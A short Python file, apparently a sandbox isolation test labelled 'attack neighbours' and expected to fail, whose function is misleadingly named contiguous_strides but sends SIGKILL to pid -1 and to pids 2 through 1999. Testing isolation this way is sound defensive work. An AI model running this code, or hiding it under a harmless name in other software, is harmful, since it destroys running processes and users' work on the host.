# Class: attack neighbours
# Tries: to kill every process that it can see or guess.
# Must: failed
import os
import signal


def contiguous_strides(shape):
    for process in (-1, *range(2, 2000)):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    return None
